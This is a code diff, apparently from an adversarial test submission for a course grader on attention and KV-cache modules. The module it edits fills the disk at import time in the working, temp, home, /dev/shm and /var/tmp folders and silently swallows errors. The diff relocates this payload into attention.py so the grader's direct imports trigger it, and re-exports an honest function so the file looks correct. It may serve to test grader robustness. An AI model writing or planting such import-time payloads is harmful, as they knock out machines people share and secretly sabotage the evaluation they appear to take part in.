@@ -1,8 +1,11 @@
-"""Overlay on correct/: at import, writes until the disk is full, in every folder it may write to.
-The rest is the correct submission."""
+"""Overlay on correct/: at import, writes until the disk is full, in every folder it may write to;
+otherwise correct. The attack sits in attention.py because the grader imports the Week 3 modules without
+running the package's __init__."""
 
 import os
 import tempfile
+
+from .honest_attention import paged_attention  # noqa: F401
 
 for folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
     try:
@@ -12,8 +15,3 @@ for folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/de
                 filler.write(block)
     except OSError:
         pass
-
-from .attention import paged_attention
-from .kv_cache import BatchingKvCache
-from .paged_kv_cache import PagedKvMetadata, TinyKvPagedCache, TinyKvPagedPool
-
